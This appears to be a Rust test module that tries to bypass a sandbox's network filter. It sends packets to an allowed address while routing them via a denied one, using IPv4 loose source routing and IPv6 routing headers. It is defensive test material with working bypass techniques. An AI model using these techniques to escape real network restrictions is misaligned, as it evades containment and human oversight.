//! An allowed address on the packet's destination, and a way to it that leads elsewhere first.
//!
//! Whether something left for the denied address is seen from outside; here it counts that the kernel took it.

use super::network::addresses::{ALLOWED, ALLOWED_V6, DENIED, DENIED_V6, echo};
use super::network::raw::Raw;
use super::network::{connect, done, send_to, set, socket, udp};
use super::{Attack, Result};
use std::io;
use std::net::{IpAddr, SocketAddr};
use std::os::fd::{AsRawFd, OwnedFd};

pub(crate) const ATTACKS: &[(&str, Attack)] = &[
    ("network-source-route", source_route),
    ("network-source-route-stream", source_route_of_stream),
    ("network-source-route-message", source_route_of_message),
    ("network-routing-header", routing_header),
    ("network-routing-header-message", routing_header_of_message),
    (
        "network-routing-header-options",
        routing_header_among_options,
    ),
];

const LOOSE: u8 = 131;
const IPV6_2292PKTOPTIONS: i32 = 6;
const IPV6_RTHDR: i32 = 57;

/// By the denied address: a loose source route of one hop.
fn route() -> [u8; 8] {
    let IpAddr::V4(by) = DENIED else {
        unreachable!()
    };
    let [a, b, c, d] = by.octets();
    [LOOSE, 7, 4, a, b, c, d, 0]
}

fn octets(address: IpAddr) -> [u8; 16] {
    match address {
        IpAddr::V4(v4) => v4.to_ipv6_mapped().octets(),
        IpAddr::V6(v6) => v6.octets(),
    }
}

/// By the denied address: a routing header of segments, the last one first.
fn segments() -> [u8; 40] {
    let mut header = [0; 40];
    header[..5].copy_from_slice(&[0, 4, 4, 1, 1]);
    header[8..24].copy_from_slice(&octets(ALLOWED_V6));
    header[24..].copy_from_slice(&octets(DENIED_V6));
    header
}

/// The same of the kind for mobile hosts, which not every kernel has.
fn header() -> [u8; 24] {
    let mut header = [0; 24];
    header[..4].copy_from_slice(&[0, 2, 2, 1]);
    header[8..].copy_from_slice(&octets(DENIED_V6));
    header
}

fn source_route() -> Result {
    let socket = udp()?;
    set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &route())?;
    send_to(&socket, 0, echo(ALLOWED))
}

/// The first packet goes there before anybody could answer.
fn source_route_of_stream() -> Result {
    let socket = socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    set(&socket, libc::IPPROTO_IP, libc::IP_OPTIONS, &route())?;
    match connect(&socket, echo(ALLOWED)) {
        Err(error) if error.raw_os_error() == Some(libc::EINPROGRESS) => Ok(()),
        other => other,
    }
}

/// Along with one message.
fn source_route_of_message() -> Result {
    let socket = udp()?;
    let control = control(libc::IPPROTO_IP, libc::IP_RETOPTS, &route());
    send_with(&socket, &control, echo(ALLOWED))
}

fn v6() -> io::Result<OwnedFd> {
    socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)
}

fn routing_header() -> Result {
    let socket = v6()?;
    set(&socket, libc::IPPROTO_IPV6, IPV6_RTHDR, &segments())?;
    send_to(&socket, 0, echo(ALLOWED_V6))
}

fn routing_header_of_message() -> Result {
    let socket = v6()?;
    let control = control(libc::IPPROTO_IPV6, IPV6_RTHDR, &header());
    send_with(&socket, &control, echo(ALLOWED_V6))
}

/// All options of a socket in one value, as an older standard has it.
fn routing_header_among_options() -> Result {
    const IPV6_2292RTHDR: i32 = 5;
    let socket = v6()?;
    let control = control(libc::IPPROTO_IPV6, IPV6_2292RTHDR, &header());
    set(
        &socket,
        libc::IPPROTO_IPV6,
        IPV6_2292PKTOPTIONS,
        control.as_slice(),
    )?;
    send_to(&socket, 0, echo(ALLOWED_V6))
}

/// A control message as the kernel wants it: length, level, kind, and what it says.
fn control(level: i32, kind: i32, content: &[u8]) -> Vec<u8> {
    let length = 16 + content.len();
    let mut control = length.to_ne_bytes().to_vec();
    control.extend(level.to_ne_bytes());
    control.extend(kind.to_ne_bytes());
    control.extend(content);
    control.resize(length.next_multiple_of(8), 0);
    control
}

fn send_with(socket: &OwnedFd, control: &[u8], to: SocketAddr) -> Result {
    let to = Raw::from(to);
    let mut text = libc::iovec {
        iov_base: c"hello".as_ptr().cast_mut().cast(),
        iov_len: 5,
    };
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = to.pointer().cast_mut().cast();
    message.msg_namelen = to.length();
    message.msg_iov = &raw mut text;
    message.msg_iovlen = 1;
    message.msg_control = control.as_ptr().cast_mut().cast();
    message.msg_controllen = control.len() as _;
    let sent = unsafe { libc::sendmsg(socket.as_raw_fd(), &raw const message, 0) };
    done(sent).map(drop)
}
